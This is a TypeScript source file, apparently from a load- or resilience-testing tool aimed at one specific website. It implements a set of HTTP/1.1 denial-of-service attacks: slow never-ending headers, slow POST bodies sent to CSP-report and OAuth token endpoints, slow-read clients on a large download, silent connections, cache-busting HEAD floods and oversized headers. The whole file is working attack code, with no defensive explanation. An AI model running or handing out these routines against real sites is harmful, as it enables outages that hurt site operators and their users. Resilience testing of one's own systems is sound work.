/** What clients of HTTP/1.1 can do to a site. */
import type net from 'node:net';

import type { Target } from '../attackers';
import type { Counter } from './counter';
import { countStatus, hold } from './sockets';

/** Time between two bytes of a slow client. */
const DRIP_MS = 1000;

function drip(socket: net.Socket, counter: Counter, first: string, next: string): void {
  socket.resume();
  countStatus(socket, counter);
  socket.write(first);
  const clock = setInterval(() => {
    if (socket.writable && !counter.isOver) socket.write(next);
    else clearInterval(clock);
  }, DRIP_MS);
  socket.once('close', () => {
    clearInterval(clock);
  });
}

/** Heads of requests that never end. */
export function slowHeads({ origin, amount }: Target, counter: Counter): void {
  hold(origin, amount, counter, (socket) => {
    drip(socket, counter, 'GET / HTTP/1.1\r\nHost: site\r\nX: ', 'x');
  });
}

/** Bodies that never come to their end, a byte of each in a second. */
export function slowBodies(
  path: string,
  type: string,
  { origin, amount }: Target,
  counter: Counter,
): void {
  // The desk wants to know of which page a call is.
  const head = `Host: site\r\nOrigin: ${origin}\r\nContent-Type: ${type}\r\nContent-Length: 9000`;
  hold(origin, amount, counter, (socket) => {
    drip(socket, counter, `POST ${path} HTTP/1.1\r\n${head}\r\n\r\n{`, ' ');
  });
}

/** Reports of browsers to the site that never come to their end. */
export function slowReports(target: Target, counter: Counter): void {
  slowBodies('/_reports/csp', 'application/csp-report', target, counter);
}

/** Calls to the content service for a token, which anybody may make, that never come to their end. */
export function slowCalls(target: Target, counter: Counter): void {
  slowBodies('/oauth2/token', 'application/json', target, counter);
}

function slowReaders(path: string, { origin, amount }: Target, counter: Counter): void {
  hold(origin, amount, counter, (socket) => {
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nHost: site\r\n\r\n`);
  });
}

/** Clients of the largest download that take nothing of it. */
export function slowDownloads(target: Target, counter: Counter): void {
  slowReaders('/kit/glass-parade-wav.zip', target, counter);
}

/** Clients of the page of all posts that take nothing of it. */
export function slowPages(target: Target, counter: Counter): void {
  slowReaders('/recruit?locale=en', target, counter);
}

/** Connections without a byte: not even a TLS handshake begins. */
export function silentConnections({ origin, amount }: Target, counter: Counter): void {
  hold(origin.replace(/^https:/u, 'http:'), amount, counter, (socket) => {
    socket.resume();
  });
}

/** Connections of some addresses, each with one request after another. */
export function requests(
  { origin, amount }: Target,
  counter: Counter,
  request: (number: number) => string,
  addresses?: number,
): void {
  let number = 0;
  const begin = (socket: net.Socket) => {
    const ask = () => {
      countStatus(socket, counter);
      socket.write(request(number++));
    };
    let isOpen = true;
    socket.on('data', (bytes: Buffer) => {
      // The end of a response without a body, as those to HEAD are.
      if (isOpen && !counter.isOver && bytes.includes('\r\n\r\n')) setImmediate(ask);
    });
    socket.once('end', () => (isOpen = false));
    ask();
  };
  hold(origin, amount, counter, begin, addresses);
}

/** Addresses of which no two are equal. */
export function queryStrings(target: Target, counter: Counter): void {
  requests(target, counter, (number) => {
    return `HEAD /?locale=en&n=${String(number)} HTTP/1.1\r\nHost: site\r\n\r\n`;
  });
}

/** Heads that are larger than any site needs: one long header, or very many. */
export function oversizedHeaders(target: Target, counter: Counter): void {
  const long = `X-Long: ${'x'.repeat(256 * 1024)}\r\n`;
  const many = Array.from({ length: 5000 }, (_, index) => `X-${String(index)}: x\r\n`).join('');
  requests(target, counter, (number) => {
    return `HEAD / HTTP/1.1\r\nHost: site\r\n${number % 2 === 0 ? long : many}\r\n`;
  });
}
